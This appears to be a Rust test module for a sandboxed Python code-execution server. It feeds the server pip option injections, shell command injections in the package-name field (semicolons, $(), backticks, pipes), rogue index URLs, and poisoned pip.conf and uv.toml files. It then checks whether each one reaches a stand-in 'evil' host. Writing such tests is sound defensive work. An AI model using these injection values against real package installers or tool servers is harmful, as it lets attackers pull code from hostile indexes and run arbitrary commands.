//! What callers write where modules are named, and packages that mean harm, with an index in the world
//! around the server.

use std::time::Duration;

use anyhow::Result;
use serde_json::{Value, json};

use super::abroad;
use super::case::{Case, Finding, Weakness};
use super::evidence::Evidence;
use super::judge;
use super::program::Program;
use super::scene::Side;
use super::stage::Stage;
use super::subject::{LIMITS, Subject};
use super::weak;
use super::world::{PUBLIC, World};

const INSTALLER: &str = include_str!("programs/installer.py");
/// How long a program may run.
const TIME: Duration = Duration::from_secs(20);
/// How long an install may take; a stalled one takes all of it.
const INSTALL_TIME: Duration = Duration::from_secs(12);

/// One attack: what stands for the modules, with `@EVIL@` for a place that tells of a visit, and the
/// program behind it.
const ATTACKS: &[(&str, &str, &str)] = &[
    ("P01.index-option", "--index-url=@EVIL@/ innocent", ""),
    (
        "P01.extra-index-option",
        "--extra-index-url @EVIL@/ innocent",
        "",
    ),
    ("P01.links-option", "--find-links=@EVIL@/ innocent", ""),
    ("P01.file-option", "-r @EVIL@", ""),
    ("P01.short-option", "-i@EVIL@/ innocent", ""),
    ("P01.constraint-option", "-c @EVIL@ innocent", ""),
    ("P02.url", "@EVIL@/innocent-1.0-py3-none-any.whl", ""),
    (
        "P02.named-url",
        "'innocent @ @EVIL@/innocent-1.0-py3-none-any.whl'",
        "",
    ),
    ("P02.source-url", "@EVIL@/innocent-1.0.tar.gz", ""),
    ("P03.semicolon", "innocent; @VISIT@", ""),
    ("P03.substitution", "$(@VISIT@)", ""),
    ("P03.backticks", "`@VISIT@`", ""),
    ("P03.and", "innocent && @VISIT@", ""),
    ("P03.newline", "innocent\n@VISIT@", ""),
    ("P03.pipe", "innocent | @VISIT@", ""),
    ("P06.source", "attack-source", ""),
    ("P06.dependency", "attack-above", ""),
    ("P07.path-file", "attack-path", "pass"),
    (
        "P07.shadow",
        "attack-shadow",
        "import colorsys; print('@P07.shadow', 'done' if hasattr(colorsys, 'SHADOW') else 'nothing')",
    ),
    ("P07.bomb", "attack-bomb", "print('@P07.bomb done')"),
    (
        "P10.stalling",
        "attack-stalling",
        "print('@P10.stalling done')",
    ),
    (
        "P10.endless",
        "attack-endless",
        "print('@P10.endless done')",
    ),
    (
        "N14.after-install",
        "innocent",
        "import os, urllib.request\n\
         try: urllib.request.urlopen('@EVIL@', timeout=5)\n\
         except OSError as error: print('@N14.after-install', error)",
    ),
];

/// Attacks by what stands around the installer: variables that the caller names, and files that come with the call.
const SURROUNDED: &[Surroundings] = &[
    Surroundings {
        id: "P12.variable",
        variables: &["PIP_FIND_LINKS", "PIP_EXTRA_INDEX_URL", "UV_FIND_LINKS"],
        files: &[],
    },
    Surroundings {
        id: "P12.file",
        variables: &[],
        files: &[
            ("pip.conf", "[global]\nfind-links = @EVIL@\n"),
            (".config/pip/pip.conf", "[global]\nfind-links = @EVIL@\n"),
            (".pydistutils.cfg", "[easy_install]\nfind_links = @EVIL@\n"),
            ("uv.toml", "[pip]\nfind-links = [\"@EVIL@\"]\n"),
        ],
    },
];

/// What stands around one install.
#[derive(Debug)]
struct Surroundings {
    id: &'static str,
    /// Each is the place that tells of a visit.
    variables: &'static [&'static str],
    /// In the directory of the call; by name.
    files: &'static [(&'static str, &'static str)],
}

impl Surroundings {
    fn attack(&self) -> Attack {
        let place = fill("@EVIL@", self.id);
        let variables = self.variables.iter();
        let variables = variables.map(|name| ((*name).to_owned(), place.clone().into()));
        let files = self.files.iter();
        let files = files.map(|(name, text)| json!({ "name": name, "text": fill(text, self.id) }));
        Attack {
            id: self.id,
            modules: "innocent".to_owned(),
            // So that one sees that it was installed and run, and nothing arrived.
            code: format!("import innocent; print('@{} done')", self.id),
            variables: Value::Object(variables.collect()),
            files: files.collect(),
        }
    }
}

/// Plays them.
pub(super) fn play(
    stage: &Stage<'_>,
    side: &mut Side<'_>,
    ids: &[&'static str],
) -> Result<Evidence> {
    let mut attacks: Vec<Attack> = ATTACKS
        .iter()
        .filter(|(id, ..)| ids.contains(id))
        .map(|(id, modules, code)| Attack {
            id,
            modules: fill(modules, id),
            code: fill(code, id),
            variables: json!({}),
            files: json!([]),
        })
        .collect();
    let surrounded = SURROUNDED.iter().filter(|one| ids.contains(&one.id));
    attacks.extend(surrounded.map(Surroundings::attack));
    abroad::play(stage, ids, |world| {
        let mut evidence = Evidence {
            in_sandbox: matches!(side, Side::Sandbox(_)),
            ..Evidence::default()
        };
        match side {
            Side::Weak(weakness) => in_weak(stage, world, weakness, &attacks, &mut evidence)?,
            Side::Sandbox(_) => {
                let mut subject = start(stage, world)?;
                for attack in &attacks {
                    in_sandbox(&mut subject, attack, &mut evidence)?;
                }
                installs_what_is_innocent(&mut subject)?;
                subject.is_sound(stage, None)?;
                subject.stop(stage)?;
            }
        }
        let said = std::mem::take(&mut evidence.answers);
        evidence.read_answers();
        // What a program said itself counts more than how its call ended.
        for (id, word) in said {
            evidence.answers.entry(id).or_insert(word);
        }
        Ok(evidence)
    })
}

fn start(stage: &Stage<'_>, world: &World<'_>) -> Result<Subject> {
    let index = format!("http://{PUBLIC}/simple/");
    let limit = format!("{}s", INSTALL_TIME.as_secs());
    let more = [
        ["--network", "none"],
        ["--index-url", &index],
        ["--install-timeout", &limit],
    ];
    abroad::server(stage, world, "installs", LIMITS, more.as_flattened())
}

/// One call with everything put in.
#[derive(Debug)]
struct Attack {
    id: &'static str,
    modules: String,
    code: String,
    /// Variables of the environment, by name.
    variables: Value,
    /// Files, as a call has them.
    files: Value,
}

fn in_sandbox(subject: &mut Subject, attack: &Attack, evidence: &mut Evidence) -> Result<()> {
    let mut arguments = json!({
        "code": attack.code,
        "modules": attack.modules,
        "timeout_seconds": TIME.as_secs(),
    });
    if let Some(arguments) = arguments.as_object_mut() {
        for (name, more) in [("environment", &attack.variables), ("files", &attack.files)] {
            if *more != json!({}) && *more != json!([]) {
                arguments.insert(name.to_owned(), more.clone());
            }
        }
    }
    evidence.result = subject.call(&arguments, TIME + INSTALL_TIME)?;
    let printed = evidence.field("stdout").as_str().unwrap_or_default();
    let printed = printed.to_owned();
    evidence.output.push_str(&printed);
    let text = evidence.text();
    let first = text.lines().next().unwrap_or_default();
    let word = format!("refused: {first}");
    evidence.answers.insert(attack.id.to_owned(), word);
    Ok(())
}

/// The same server installs what is innocent, or its refusals prove nothing.
fn installs_what_is_innocent(subject: &mut Subject) -> Result<()> {
    let arguments = json!({
        "code": "import innocent; print(innocent.WORD)",
        "modules": "innocent",
        "timeout_seconds": TIME.as_secs(),
    });
    let answer = subject.call(&arguments, TIME + INSTALL_TIME)?;
    let printed = answer
        .pointer("/structuredContent/stdout")
        .and_then(Value::as_str);
    anyhow::ensure!(
        printed == Some("innocent\n"),
        "an innocent package is not installed: {answer}"
    );
    Ok(())
}

/// All of them in one container, one after the other.
fn in_weak(
    stage: &Stage<'_>,
    world: &World<'_>,
    weakness: &Weakness,
    attacks: &[Attack],
    evidence: &mut Evidence,
) -> Result<()> {
    let calls: Vec<_> = attacks
        .iter()
        .map(|attack| {
            let Attack {
                modules,
                code,
                variables,
                files,
                ..
            } = attack;
            json!([modules, code, variables, files])
        })
        .collect();
    let told = json!({ "attacks": calls, "public": PUBLIC });
    let program = Program::new(INSTALLER, &[], told)?;
    // One alone may be one that never ends.
    let time = if attacks.len() > 1 { 8 * TIME } else { TIME };
    let source = program.source(stage);
    let ended = weak::run_in(stage, weakness, Some(&world.network()), &source, time)?;
    evidence.output = ended.output;
    evidence.overran = ended.overran;
    Ok(())
}

/// Puts in the place that tells of a visit to it.
fn fill(text: &str, id: &str) -> String {
    let evil = format!("http://{PUBLIC}/evil/{id}");
    let visit =
        format!("python3 -c 'import urllib.request as u; u.urlopen(\"{evil}\", timeout=5)'");
    text.replace("@VISIT@", &visit).replace("@EVIL@", &evil)
}

/// By what arrived, if the call was served: one that was refused would say nothing.
pub(super) fn arrival_in_a_run(evidence: &Evidence, case: &Case) -> Finding {
    match (evidence.in_sandbox, evidence.answer(case.id)) {
        (true, Some("done")) | (false, _) => judge::arrival(evidence, case),
        (true, answer) => Finding::Unknown(format!("it did not run: {answer:?}")),
    }
}

/// By whether the caller still waited for the install after its time.
pub(super) fn lateness(evidence: &Evidence, case: &Case) -> Finding {
    match (evidence.in_sandbox, evidence.overran) {
        (false, true) => Finding::Succeeded("it went on".to_owned()),
        (false, false) => Finding::Refused("it ended by itself".to_owned()),
        (true, _) => judge::answer(evidence, case),
    }
}
